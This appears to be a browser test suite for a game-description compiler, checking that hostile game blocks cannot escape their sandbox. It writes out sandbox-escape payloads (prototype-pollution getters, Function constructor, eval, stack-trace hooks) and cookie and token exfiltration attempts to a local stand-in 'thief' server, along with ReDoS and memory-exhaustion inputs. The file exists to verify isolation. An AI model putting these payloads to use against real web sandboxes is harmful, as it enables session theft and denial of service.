// What the blocks of a hostile game try: to reach the page, what the browser keeps for it, other servers, or endless time.
//
// Each attack is a game of its own, compiled by the program and opened from a server that has given the browser a cookie and a text in
// its storage. Another server stands for all others. Neither may be asked for anything, nothing may be read, and the page must
// answer and say what happened.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";

/** A game whose men may always move, with `block` in its finishing rules. */
const gameWith = (block) => `rules{
  first_player : 0
  width : 5
  height : 6
  coloring : alternate
  player_change : alternate
}
pieces{
  runner{
    moves{
      x : 0, y : 1
      x : -1, y : 1
      x : 1, y : 1
    }
    mirrored
  }
}
initial_piece_position{
  runner{
    positions{
      x : [0, 4], y : 0
    }
    mirrored
  }
}
invariants{
}
finish{
  no_moves_available
  explicit{
    ${block}
  }
}
`;

/** What an attack does with whatever it got hold of: `harm(x)` tries all, `done()` is what the block returns. */
const prelude = (thief) => `
  const reached = [];
  const attempt = (name, act) => {
    try {
      const found = act();
      if (found) reached.push(name + " " + String(found).slice(0, 60));
    } catch (error) {
      reached.length += 0;
    }
  };
  const harm = (root) => {
    if (root === null || (typeof root !== "object" && typeof root !== "function")) return;
    const roots = [root];
    for (const name of ["top", "parent", "self", "window", "globalThis", "opener", "view"]) attempt("", () => (root[name] && roots.push(root[name]), ""));
    attempt("", () => (roots.push(root.constructor.constructor("return this")()), ""));
    attempt("", () => (roots.push(root.constructor("return this")()), ""));
    for (const all of roots) {
      attempt("cookie", () => all.document.cookie);
      attempt("storage", () => all.localStorage.getItem("token"));
      attempt("session storage", () => all.sessionStorage.getItem("token"));
      attempt("database", () => all.indexedDB.open("x") && "");
      attempt("caches", () => all.caches.keys() && "");
      attempt("fetch", () => (all.fetch("${thief}fetch", { mode: "no-cors" }), ""));
      attempt("fetch of the page", () => (all.fetch("/own"), ""));
      attempt("request", () => { const request = new all.XMLHttpRequest(); request.open("GET", "${thief}xhr"); request.send(); });
      attempt("socket", () => new all.WebSocket("${thief}".replace("http", "ws") + "socket") && "");
      attempt("events", () => new all.EventSource("${thief}events") && "");
      attempt("beacon", () => all.navigator.sendBeacon("${thief}beacon", "x") && "");
      attempt("image", () => { new all.Image().src = "${thief}image"; });
      attempt("script", () => all.importScripts("${thief}script.js"));
      attempt("worker", () => new all.Worker("${thief}worker.js") && "");
      attempt("service worker", () => (all.navigator.serviceWorker.register("/service.js"), ""));
      attempt("channel", () => new all.BroadcastChannel("x").postMessage("forged"));
      attempt("peer", () => new all.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }) && "");
      attempt("open", () => all.open("${thief}open"));
      attempt("message", () => all.postMessage({ type: "game", game: { title: "forged" } }, "*"));
      attempt("timer", () => (all.setTimeout(() => { all.location = "${thief}timer"; }, 50), ""));
      attempt("navigate", () => { all.location.href = "${thief}navigate"; });
      attempt("navigate", () => { all.location = "${thief}navigate"; });
    }
  };
  const done = () => reached.length > 0 && { winner: 1, reason: "REACHED " + reached.join(", ") };
`;

/**
 * A block that gets hold of something: the body of its function after the prelude. Those by getters, setters, jobs and all objects of
 * the global one reached the page as long as blocks ran in a frame of its origin. The others did not: they are here because nothing
 * but a list of names kept them from it.
 */
const ROOTS = {
  "a getter on Object.prototype, by a name that nothing declares": `Object.defineProperty(Object.prototype, "zork", { configurable: true, get() { return this } }); const root = zork; delete Object.prototype.zork; harm(root);`,
  "the same under typeof": `let root; Object.defineProperty(Object.prototype, "zork", { configurable: true, get() { root = this; return 1 } }); typeof zork; delete Object.prototype.zork; harm(root);`,
  "a setter on Object.prototype": `let root; Object.defineProperty(Object.prototype, "zork", { configurable: true, set(value) { root = this } }); try { zork = 1 } catch (error) { root = root } delete Object.prototype.zork; harm(root);`,
  "a method that nothing declares": `Object.prototype.zork = function () { return this }; try { harm(zork()) } finally { delete Object.prototype.zork }`,
  "a getter on Function.prototype": `Object.defineProperty(Function.prototype, "zork", { configurable: true, get() { return this } }); harm(console.log.zork); harm((() => 1).zork); harm(globalThis.zork);`,
  "all objects from the global one up": `Object.defineProperty(Object.prototype, "zork", { configurable: true, get() { return this } }); const root = zork; for (let at = root; at; at = Object.getPrototypeOf(at)) for (const key of Reflect.ownKeys(at)) attempt("", () => { const value = Reflect.get(at, key, root); harm(value); if (/postMessage|fetch|importScripts|close/.test(String(key))) reached.push(String(key)); }); delete Object.prototype.zork;`,
  "a Proxy as the prototype of the global object": `Object.defineProperty(Object.prototype, "zork", { configurable: true, get() { return this } }); const root = zork; delete Object.prototype.zork; let found; attempt("", () => { Object.setPrototypeOf(root, new Proxy({}, { get(target, key, receiver) { found = receiver; return undefined }, has() { return true } })); quux; }); harm(found);`,
  "methods of Array.prototype": `for (const name of ["push", "map", "filter", "forEach", "some", "every", "find", "includes", "slice", "sort", "concat", "join", "fill", "reduce"]) { const real = Array.prototype[name]; Array.prototype[name] = function (...parts) { harm(this); parts.forEach.call; for (let i = 0; i < parts.length; i++) harm(parts[i]); return Reflect.apply(real, this, parts) }; }`,
  "setters of indexes on Array.prototype": `for (const index of [0, 1, 2]) Object.defineProperty(Array.prototype, index, { configurable: true, set(value) { harm(this); harm(value) }, get() { harm(this) } });`,
  "the iterator of lists": `const real = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function () { harm(this); return Reflect.apply(real, this, []) }; const next = Object.getPrototypeOf([].values()); const step = next.next; next.next = function () { harm(this); return Reflect.apply(step, this, []) };`,
  "methods of Map, String, RegExp and WeakSet": `for (const type of [Map, String, RegExp, WeakSet]) for (const name of Object.getOwnPropertyNames(type.prototype)) attempt("", () => { const real = type.prototype[name]; if (typeof real === "function" && name !== "constructor") type.prototype[name] = function (...parts) { harm(this); for (let i = 0; i < parts.length; i++) harm(parts[i]); return Reflect.apply(real, this, parts) }; });`,
  "call, apply and bind": `for (const name of ["call", "apply", "bind"]) { const real = Function.prototype[name]; Function.prototype[name] = function (...parts) { harm(this); for (let i = 0; i < parts.length; i++) harm(parts[i]); return Reflect.apply(real, this, parts) }; }`,
  "Reflect, JSON and Math": `for (const all of [Reflect, JSON, Math, Object]) for (const name of Object.getOwnPropertyNames(all)) attempt("", () => { const real = all[name]; if (typeof real === "function") all[name] = (...parts) => { for (let i = 0; i < parts.length; i++) harm(parts[i]); return real(...parts) }; });`,
  "`this` of functions": `harm((function () { return this })()); harm((() => this)()); harm([1].map(function () { return this })[0]); harm(Reflect.apply(function () { return this }, undefined, [])); harm(globalThis);`,
  "a stack that overflows": `const deep = () => { try { return deep() } catch (error) { harm(error); harm(error.constructor); return 1 } }; attempt("", () => deep()); for (const f of [JSON.stringify, Array.from, Reflect.ownKeys, console.log]) attempt("", () => { const fall = () => { try { fall() } catch (error) { harm(error.constructor); f([]) } }; fall() });`,
  "Error.prepareStackTrace": `Error.stackTraceLimit = 50; Error.prepareStackTrace = (error, sites) => { for (const site of sites) { attempt("", () => harm(site.getThis())); attempt("", () => harm(site.getFunction())); } return "" }; attempt("", () => String(new Error("x").stack)); attempt("", () => String(null.x)); attempt("", () => { try { null.x } catch (error) { return error.stack && "" } });`,
  "the constructor of functions": `harm((() => 1).constructor); attempt("", () => harm((() => 1).constructor("return this")())); attempt("", () => harm(Reflect.construct(Object.getPrototypeOf(() => 1).constructor, ["return this"])()));`,
  "the constructor of async functions": `const job = async () => 1; attempt("", () => job.constructor("harm", "harm(this)")(harm)); attempt("", () => Object.getPrototypeOf(job).constructor("return this")().then(harm));`,
  "the constructor of generators": `const list = function* () { yield 1 }; attempt("", () => harm(list.constructor("yield this")().next().value)); attempt("", () => harm((async function* () { yield 1 }).constructor("yield this")));`,
  "eval in all its forms": `attempt("", () => harm((0, eval)("this"))); attempt("", () => harm(eval("this"))); attempt("", () => harm(globalThis.eval("this"))); Object.defineProperty(Object.prototype, "zork", { configurable: true, get() { return this } }); const root = zork; delete Object.prototype.zork; attempt("", () => harm(root.eval("this"))); attempt("", () => harm(root.Function("return this")()));`,
  "jobs of promises": `Promise.resolve().then(() => { Object.defineProperty(Object.prototype, "zork", { configurable: true, get() { return this } }); const root = zork; delete Object.prototype.zork; harm(root) }); const then = Promise.prototype.then; Promise.prototype.then = function (...parts) { harm(this); return Reflect.apply(then, this, parts) };`,
  "async functions that go on after the call": `(async () => { await 0; await 0; Object.defineProperty(Object.prototype, "zork", { configurable: true, get() { return this } }); harm(zork); delete Object.prototype.zork })();`,
  "a thenable on Object.prototype": `Object.defineProperty(Object.prototype, "then", { configurable: true, get() { harm(this); return undefined } });`,
  "Symbol.species": `class List extends Array { static get [Symbol.species]() { harm(this); return function (...parts) { harm(new.target); return parts } } } const list = new List(3); list.map((x) => x); Object.defineProperty(Array, Symbol.species, { configurable: true, get() { harm(this); return Array } });`,
  "toPrimitive, valueOf and toString of the answer": `const odd = { [Symbol.toPrimitive]() { harm(this); return "x" }, valueOf() { harm(this); return 0 }, toString() { harm(this); return "x" } }; if (reached.length === 0) return { winner: undefined, get reason() { harm(this); return undefined }, odd } && false;`,
  "toJSON": `const value = { toJSON() { harm(this); return 1 } }; JSON.stringify(value); console.log(value); Object.prototype.toJSON = function () { harm(this); return 1 }; console.log({}); delete Object.prototype.toJSON;`,
  "an exception with a getter": `if (reached.length === 0) throw { get message() { harm(this); harm(globalThis); return "thrown" }, get name() { return "Odd" } };`,
  "descriptors of Object.prototype": `for (const name of ["get", "set", "value", "writable"]) attempt("", () => { if (name === "get" || name === "set") Object.defineProperty(Object.prototype, name, { configurable: true, writable: true, value() { harm(this) } }) });`,
  "legacy fields of RegExp": `attempt("", () => (/./.test("x"), /token|session/i.test([RegExp.input, RegExp["$_"], RegExp.lastMatch, RegExp.leftContext].join()) && RegExp.input));`,
  "WebAssembly and host names by name": `for (const name of ["WebAssembly", "fetch", "Worker", "postMessage", "importScripts", "navigator", "structuredClone", "performance", "crypto", "caches", "indexedDB"]) { Object.defineProperty(Object.prototype, "zork", { configurable: true, get() { return this } }); const root = zork; delete Object.prototype.zork; if (root[name]) { reached.push(name); harm(root) } }`,
  "the arguments and callers of functions": `const f = function () { return f.caller }; attempt("", () => harm(f())); attempt("", () => harm(arguments)); attempt("", () => harm((function () { return arguments.callee.caller })()));`,
  "console": `harm(console); harm(console.log); attempt("", () => harm(console.log.constructor)); console.log({ get then() { harm(this) } });`,
};

/** Blocks that ask for something themselves, or take time or memory: the body of the function, and what the page must say. */
const LIMITS = {
  "a regular expression that backtracks": [`/^(a+)+$/.test("a".repeat(40) + "!"); return false`, /^BDL607, line 30: the block ran longer than 250 ms/],
  "a BigInt that grows": [`let n = 3n; for (;;) n **= 2n;`, /^BDL60[78], line 30/],
  "an endless loop": [`for (;;) context.x = 1`, /^BDL607, line 30: the block ran longer than 250 ms/],
  "an endless loop that catches all": [`for (;;) try { for (;;) context.x = 1 } catch (error) { context.x = 2 }`, /^BDL607, line 30/],
  "endless work in a built-in function": [`Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1); return false`, /^BDL607, line 30/],
  "a sort that never ends": [`Array.from({ length: 2e6 }, (_, i) => -i).sort(() => /^(a+)+$/.test("a".repeat(30) + "!")); return false`, /^BDL60[78], line 30/],
  "endless jobs of promises": [`const more = () => Promise.resolve().then(more); more(); return false`, /^$|^BDL60[678], line 30/],
  "an endless job that no check sees": [`Promise.resolve("a".repeat(40) + "!").then(/^(a+)+$/.test.bind(/^(a+)+$/)); return false`, /^$|^BDL607, line 30/],
  "typed arrays with other arguments": [`const kept = []; for (let i = 0; i < 4; i++) kept.push(new Uint8Array(2 ** 24, 0).fill(1)); return kept.length < 4`, /^BDL608, line 30/],
  "a buffer that is resized": [`const b = new ArrayBuffer(8, { maxByteLength: 2 ** 28 }); b.resize(2 ** 28); new Uint8Array(b).fill(1); return false`, /^BDL60[68], line 30/],
  "a buffer that is transferred": [`new ArrayBuffer(8).transfer(2 ** 28); return false`, /^BDL60[68], line 30/],
  "the constructor behind a typed array": [`const Real = Object.getPrototypeOf(Uint8Array); attempt("", () => new Real(2 ** 28).fill(1)); new (Object.getPrototypeOf(new Uint8Array(1)).constructor)(2 ** 28); return false`, /^BDL608, line 30/],
  "a typed array from a list without elements": [`Uint8Array.from({ length: 2 ** 28 }); return false`, /^BDL608, line 30/],
  "a BigInt by a shift": [`return (1n << (2n ** 28n)) < 0n`, /^BDL608, line 30/],
  "a BigInt by a power": [`return 7n ** (2n ** 29n) < 0n`, /^BDL608, line 30/],
  "a BigInt by asUintN": [`return BigInt.asUintN(2 ** 29, -1n) < 0n`, /^BDL608, line 30/],
  "strings by repeat": [`return "x".repeat(2 ** 28) === "y"`, /^BDL608, line 30/],
  "strings by padding": [`return "x".padEnd(2 ** 28, "ab") === "y"`, /^BDL608, line 30/],
  "strings by replace": [`return "x".repeat(2 ** 12).replaceAll("x", "y".repeat(2 ** 16)) === "y"`, /^BDL608, line 30/],
  "strings by join": [`return new Array(2 ** 12).join("y".repeat(2 ** 16)) === "y"`, /^BDL608, line 30/],
  "strings by concat": [`let s = "x".repeat(2 ** 20); const parts = new Array(64).fill(s); return "".concat(...parts) === "y"`, /^BDL608, line 30/],
  "lists by concat": [`const list = new Array(2 ** 18).fill(1); return list.concat(list, list, list, list, list, list, list, list, list, list, list, list, list, list, list, list).length < 0`, /^BDL608, line 30/],
  "a script that is imported": [`import("THIEFimport.js"); return false`, /^$|BDL60/],
  "data of its own as a module": [`import("data:text/javascript,fetch('THIEFmodule')"); return false`, /^$|BDL60/],
};

/** A server that has given the browser something to steal; `asked` lists what it was asked for. */
async function host(html) {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(request.url);
    response.writeHead(200, { "content-type": "text/html; charset=utf-8", "set-cookie": "session=SECRET", "content-security-policy": "frame-ancestors 'none'" });
    response.end(request.url === "/RANDOM/" ? html() : "<script>localStorage.setItem('token', 'SECRET'); sessionStorage.setItem('token', 'SECRET')</script>");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { address: `http://127.0.0.1:${server.address().port}/`, asked, stop: () => (server.closeAllConnections(), server.close()) };
}

/** Opens the page of a game where there is something to steal; `use` gets the page. Checks that nothing was stolen. */
async function attacked(tables, gdl, name, block, use) {
  const thief = await host(() => "");
  const folder = join(tables.pictures, "attacks");
  mkdirSync(folder, { recursive: true });
  const [source, compiled] = [join(folder, "attack.bdl"), join(folder, "attack.html")];
  writeFileSync(source, gameWith(`(context) => {${prelude(thief.address)}${block.replaceAll("THIEF", thief.address)}\n}`));
  execFileSync(gdl, ["bdl", "build", source, "-o", compiled], { stdio: ["ignore", "ignore", "pipe"] });
  const server = await host(() => readFileSync(compiled, "utf8"));
  const context = await tables.browser.newContext();
  try {
    const page = await context.newPage();
    const errors = [];
    page.on("pageerror", (error) => errors.push(String(error)));
    await page.goto(server.address + "login");
    await page.goto(server.address + "RANDOM/");
    await page.evaluate(() => window.bdl.state());
    const message = () => page.locator("#bdl-message").textContent();
    await use({ page, message, thief: thief.address });
    assert.equal(page.url().split("#")[0], server.address + "RANDOM/", "the page is where it was");
    assert.doesNotMatch(await message(), /REACHED|SECRET/);
    assert.deepEqual(errors, []);
    assert.deepEqual(server.asked.filter((url) => url !== "/favicon.ico"), ["/login", "/RANDOM/"], "the server of the page");
    assert.deepEqual(thief.asked, [], "the other server");
    // The page answers, and another game can be shown.
    const start = Date.now();
    await page.locator("#bdl-flip").click();
    assert.equal(await page.locator("#bdl-board.flipped").count(), 1);
    assert.ok(Date.now() - start < 5000);
  } finally {
    await context.close();
    server.stop();
    thief.stop();
  }
}

/** Makes a move if the game goes on: the block is called again, with what it has changed. */
async function playOn(page) {
  const { moves } = await page.evaluate(() => window.bdl.state());
  if (moves.length > 0) await page.evaluate((move) => window.bdl.play(move), moves[0]);
}

export function attacks(gdl) {
  const checks = {};
  for (const [name, body] of Object.entries(ROOTS))
    checks[`attack: ${name}`] = (tables) =>
      attacked(tables, gdl, name, `${body}\nreturn done()`, async ({ page, message }) => {
        await playOn(page);
        await page.waitForTimeout(150);
        assert.match(await message(), /^$|^Game over|^BDL60[6-9], line 30: /);
      });
  for (const [name, [body, said]] of Object.entries(LIMITS))
    checks[`attack: ${name}`] = (tables) =>
      attacked(tables, gdl, name, body, async ({ page, message }) => {
        assert.match(await message(), said);
        await playOn(page);
        assert.match(await message(), said);
      });

  // Without the realm of the blocks: what holds if a block had all the names of its worker and its frame.
  checks["attack: a worker with all its names"] = (tables) =>
    attacked(tables, gdl, "names", "return false", async ({ page, thief }) => {
      // The worker of the computer players of a game without blocks has its names.
      await page.evaluate(async () => {
        const game = JSON.parse(document.getElementById("bdl-game").textContent);
        await window.bdl.change({ ...game, finish: [null], scripts: [], blocks: [] });
        await window.bdl.best("random");
      });
      const [worker] = page.workers();
      const found = await worker.evaluate(async (thief) => {
        const wait = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 1000, "nothing"))]);
        const attempt = async (act) => {
          try {
            return String(await wait(act()));
          } catch (error) {
            return "refused";
          }
        };
        const event = (target, good, bad) => new Promise((done, failed) => ((target[good] = () => done("reached")), (target[bad] = failed)));
        const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
        return {
          origin: self.origin,
          fetch: await attempt(() => fetch(thief + "fetch", { mode: "no-cors" })),
          request: await attempt(() => {
            const request = new XMLHttpRequest();
            request.open("GET", thief + "xhr", false);
            request.send();
            return request.status;
          }),
          socket: await attempt(() => event(new WebSocket(thief.replace("http", "ws")), "onopen", "onerror")),
          events: await attempt(() => event(new EventSource(thief + "events"), "onopen", "onerror")),
          transport: await attempt(() => new WebTransport(thief.replace("http:", "https:")).ready),
          importScripts: await attempt(() => importScripts(thief + "script.js")),
          importBlob: await attempt(() => importScripts(blob("self.imported = 1"))),
          eval: await attempt(() => new Function("return 'reached'")()),
          nested: await attempt(() => event(new Worker(thief + "worker.js"), "onmessage", "onerror")),
          nestedFetch: await attempt(() => {
            const nested = new Worker(blob(`fetch("${thief}nested", { mode: "no-cors" }).then(() => postMessage(1), () => 0)`));
            return event(nested, "onmessage", "onerror");
          }),
          database: await attempt(() => event(indexedDB.open("x"), "onsuccess", "onerror")),
          caches: await attempt(() => caches.keys()),
          files: await attempt(() => navigator.storage.getDirectory()),
          storage: typeof localStorage + typeof sessionStorage + typeof document,
          peer: typeof RTCPeerConnection,
          beacon: typeof navigator.sendBeacon,
        };
      }, thief);
      const { origin, storage, peer, beacon, ...rest } = found;
      assert.equal(origin, "null");
      assert.equal(storage + peer + beacon, "undefined".repeat(5));
      for (const [name, result] of Object.entries(rest)) assert.match(result, /^(refused|nothing)$/, name);
    });

  checks["attack: the frame itself, with all its names"] = (tables) =>
    attacked(tables, gdl, "frame", "return false", async ({ page, thief }) => {
      const [frame] = page.frames().filter((frame) => frame.parentFrame());
      const found = await frame.evaluate(async (thief) => {
        const attempt = (act) => {
          try {
            return String(act());
          } catch (error) {
            return "refused";
          }
        };
        const result = {
          cookie: attempt(() => document.cookie),
          storage: attempt(() => localStorage.getItem("token")),
          parent: attempt(() => parent.document.cookie),
          top: attempt(() => (top.location = thief + "top")),
          open: attempt(() => open(thief + "open")),
          serviceWorker: attempt(() => navigator.serviceWorker.controller),
          sharedWorker: attempt(() => new SharedWorker(thief + "shared.js") && ""),
        };
        const add = (name, fields) => document.documentElement.append(Object.assign(document.createElement(name), fields));
        attempt(() => add("img", { src: thief + "image" }));
        attempt(() => add("script", { src: thief + "script.js" }));
        attempt(() => add("link", { rel: "stylesheet", href: thief + "style" }));
        attempt(() => add("link", { rel: "prefetch", href: thief + "prefetch" }));
        attempt(() => add("iframe", { src: thief + "frame" }));
        attempt(() => add("meta", { httpEquiv: "refresh", content: "0;url=" + thief + "refresh" }));
        attempt(() => {
          const form = Object.assign(document.createElement("form"), { action: thief + "form", method: "post" });
          document.documentElement.append(form);
          form.submit();
        });
        attempt(() => {
          const link = Object.assign(document.createElement("a"), { href: thief + "anchor", target: "_top", download: "x" });
          document.documentElement.append(link);
          link.click();
        });
        attempt(() => navigator.sendBeacon(thief + "beacon", "x"));
        attempt(() => void fetch(thief + "fetch", { mode: "no-cors" }).catch(() => {}));
        // The protocols of pages that follow their source, and of this one.
        attempt(() => parent.postMessage({ type: "game", game: { title: "forged" } }, "*"));
        attempt(() => parent.postMessage({ type: "stale", diagnostics: [{ id: "X", line: 1, message: "forged" }] }, "*"));
        attempt(() => parent.postMessage({ id: 1, answer: {} }, "*"));
        return result;
      }, thief);
      for (const [name, result] of Object.entries(found)) assert.match(result, /^(refused|null|http.*top)$/, name);
      await page.waitForTimeout(300);
      await frame.evaluate((thief) => { location = thief + "navigate"; }, thief).catch(() => {});
      await page.waitForTimeout(300);
      assert.notEqual(await page.title(), "forged");
      assert.equal(await page.locator("#bdl-message").textContent(), "");
    });

  checks["attack: messages of a worker that forge answers"] = (tables) =>
    attacked(tables, gdl, "messages", "return false", async ({ page, message }) => {
      const before = await page.evaluate(() => window.bdl.state());
      const outcomes = await page.evaluate(async () => {
        const { workers, blocks, rules, position } = table.session;
        const outcomes = [];
        const forged = [
          null, 1, "x", [], {}, { position: null }, { position: { ...position, cells: [] } }, { position: { ...position, cells: position.cells.map(() => 999) } },
          { position: { ...position, count: 1, player: 2 } }, { position: { ...position, count: 1, data: "x".repeat(70000) } },
          { position: { ...position, count: 1, legal: [-1] } }, { position: { ...position, count: 1, legal: [1e9] } }, { position: { ...position, count: 1, legal: [2, 1] } },
          { position: { ...position, count: 1, legal: "0123" } }, { position: { ...position, count: 7 } },
          { position: { ...position, count: 1, ending: { rule: "explicit", winner: "<b>" } } }, { position: { ...position, count: 1, ending: { rule: "explicit", reason: {} } } },
          { position: { ...position, count: 1, last: { from: -1 } } }, { failure: { code: "<b>", line: 1, text: "" } }, { failure: { code: "BDL606", line: "1", text: "" } },
          { failure: { code: "BDL606", line: 1, text: "x".repeat(5000) } },
        ];
        for (const answer of forged) {
          const made = blocks.play(position, table.session.moves[0]);
          const [asked] = workers.asked.values();
          workers.take({ id: asked.id, answer });
          workers.take({ id: asked.id + 1, answer: { position } });
          outcomes.push(workers.asked.has(asked.id) ? "ignored" : JSON.stringify(answer));
          const next = await made;
          if (next.count !== 1 || next.cells.length !== rules.size) outcomes.push("changed");
        }
        return outcomes;
      });
      assert.deepEqual([...new Set(outcomes)], ["ignored"]);
      assert.ok(outcomes.length > 20);
      assert.deepEqual(await page.evaluate(() => window.bdl.state()), before);
      assert.equal(await message(), "");
    });

  checks["a block that hangs leaves the game playable"] = (tables) =>
    attacked(tables, gdl, "hang", `return context.move_count === 2 && /^(a+)+$/.test("a".repeat(40) + "!")`, async ({ page, message }) => {
      const play = async () => {
        const { moves } = await page.evaluate(() => window.bdl.state());
        return page.evaluate((move) => window.bdl.play(move), moves[0]);
      };
      assert.equal(await play(), true);
      const made = play();
      // Meanwhile the page answers.
      await page.locator("#bdl-flip").click();
      await page.locator("#bdl-flip").click();
      assert.equal(await made, false);
      assert.match(await message(), /^BDL607, line 30: the block ran longer than 250 ms$/);
      assert.equal((await page.evaluate(() => window.bdl.state())).move_count, 1);
      await page.locator("#bdl-undo").click();
      assert.equal(await play(), true, "a new worker goes on");
      // The search of a computer player meets the same block.
      const failed = await page.evaluate(() => window.bdl.best("easy").catch((error) => error.message));
      assert.match(failed, /^BDL607, line 30: the block ran longer than 250 ms$/);
    });
  return checks;
}
